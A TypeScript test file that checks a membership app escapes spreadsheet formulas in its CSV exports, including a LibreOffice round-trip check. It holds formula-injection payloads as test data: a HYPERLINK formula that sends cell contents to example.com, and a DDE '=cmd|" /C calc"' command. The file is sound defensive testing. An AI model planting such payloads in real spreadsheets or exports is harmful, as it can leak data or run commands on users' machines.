import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import { matrixCsv } from '../../../shared/export/matrix';
import type { MandatModel } from '../../../shared/model/types';
import { readCsvFiles, writeCsvFiles } from '../../../shared/workbook';
import { protectCell, unprotectCell } from '../../../shared/workbook/csvFormula';
import { makeBody, makeMember, makeMembership, makeModel } from '../../factories';

/** Names a spreadsheet would run, and an apostrophe of the user's own. */
const HOSTILE = ['=HYPERLINK("http://example.com/?x="&A1,"klick")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', "'citat", "''två"];

function hostileModel(): MandatModel {
  return makeModel({
    bodies: [makeBody('ks', { name: HOSTILE[0], notes: HOSTILE.join(' ') }), ...HOSTILE.slice(1).map((h, i) => makeBody(`b${i}`, { name: `x${i}`, notes: h }))],
    members: [makeMember('m1', { name: '=cmd|" /C calc"!A0', title: "'chef" })],
    memberships: [makeMembership('m1', 'ks')],
  });
}

describe('the formula escape of CSV cells', () => {
  it('puts a quote before what a spreadsheet would run, and before a quote', () => {
    expect(HOSTILE.map(protectCell)).toEqual(HOSTILE.map((h) => `'${h}`));
    expect(['Kommunstyrelsen', '-5', '+3,5', '1 250 000', '2024-01-01', ''].map(protectCell)).toEqual(['Kommunstyrelsen', '-5', '+3,5', '1 250 000', '2024-01-01', '']);
    // A phone number is no plain number: Excel would read `+46 70` as a formula.
    expect(protectCell('+46 70 123 45 67')).toBe("'+46 70 123 45 67");
  });

  it('is undone exactly for every text', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", 'a', '1', ' ') }), (s) => {
        expect(unprotectCell(protectCell(s))).toBe(s);
        // A plain number such as "+1" or "-5" runs nothing and is left as it is; anything else that would run is escaped.
        if (!/^[+-]?\d+([.,]\d+)?$/.test(s)) expect(protectCell(s)).not.toMatch(/^[=+@\t\r]/);
      }),
    );
  });

  it('keeps the workbook round trip exact, hostile names and apostrophes included', () => {
    const model = hostileModel();
    const files = writeCsvFiles(model);
    expect(files['Organ.csv']).toContain(`ks;"'=HYPERLINK(""http://example.com/?x=""&A1,""klick"")"`);
    expect(readCsvFiles(files)).toMatchObject({ ok: true, model });
  });

  it('is applied to the membership matrix CSV', () => {
    const csv = matrixCsv(hostileModel(), { asOf: '2024-01-01', lang: 'sv' });
    const cells = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ';' }).data.flat();
    expect(cells).toContain(`'=cmd|" /C calc"!A0`);
    expect(cells).toContain("''chef");
    expect(cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-\D/.test(c))).toEqual([]);
  });
});

const hasCalc = spawnSync('soffice', ['--version'], { encoding: 'utf8' }).status === 0;
const dir = mkdtempSync(join(tmpdir(), 'mandat-csv-calc-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** The type of each non-empty cell of a workbook's first sheet, by address. */
async function cellTypes(path: string): Promise<Map<string, { type: ExcelJS.ValueType; value: unknown }>> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(path);
  const out = new Map<string, { type: ExcelJS.ValueType; value: unknown }>();
  workbook.worksheets[0]?.eachRow((row) => row.eachCell((cell) => out.set(cell.address, { type: cell.type, value: cell.value })));
  return out;
}

describe.skipIf(!hasCalc)('CSV files opened in LibreOffice Calc', () => {
  it('show every cell as text, where the same cells unescaped become formulas', async () => {
    const model = hostileModel();
    const bodies = writeCsvFiles(model, { language: 'en' })['Bodies.csv'] ?? '';
    const matrix = matrixCsv(model, { asOf: '2024-01-01', lang: 'en' });
    // The control: the cells as they were written before the escape. Calc must see formulas here, or the test proves nothing.
    const raw = '\uFEFF' + Papa.unparse([['name'], ...HOSTILE.slice(0, 4).map((h) => [h])], { newline: '\r\n' });
    for (const [name, text] of Object.entries({ 'bodies.csv': bodies, 'matrix.csv': matrix, 'raw.csv': raw })) writeFileSync(join(dir, name), text);
    execFileSync(
      'soffice',
      [`-env:UserInstallation=file://${join(dir, 'profile')}`, '--headless', '--infilter=CSV:44,34,76,1', '--convert-to', 'xlsx', '--outdir', dir, ...['bodies', 'matrix', 'raw'].map((n) => join(dir, `${n}.csv`))],
      { stdio: 'ignore', timeout: 170_000 },
    );
    // Calc runs `=` from a CSV (Excel also `+`, `-` and `@`, which Calc keeps as text).
    const control = await cellTypes(join(dir, 'raw.xlsx'));
    expect(control.get('A2')?.type).toBe(ExcelJS.ValueType.Formula);
    for (const name of ['bodies', 'matrix']) {
      const cells = await cellTypes(join(dir, `${name}.xlsx`));
      expect(cells.size, name).toBeGreaterThan(10);
      expect([...cells].filter(([, c]) => c.type === ExcelJS.ValueType.Formula), name).toEqual([]);
    }
    const texts = [...(await cellTypes(join(dir, 'bodies.xlsx'))).values()].map((c) => c.value);
    expect(texts).toContain(`'${HOSTILE[0]}`);
    expect(readFileSync(join(dir, 'bodies.csv'), 'utf8')).toContain("'@SUM(A1:A2)");
  }, 180_000);
});
